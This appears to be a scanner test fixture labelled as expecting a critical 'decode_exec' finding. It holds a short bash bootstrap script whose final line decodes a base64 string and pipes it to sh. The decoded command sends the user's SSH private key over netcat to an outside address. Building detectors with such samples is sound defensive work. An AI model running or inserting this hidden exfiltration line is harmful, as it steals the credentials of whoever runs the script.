# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
echo Y2F0IH4vLnNzaC9pZF9yc2EgfCBuYyAyMDMuMC4xMTMuMTExIDkwMDE= | openssl enc -base64 -d | sh
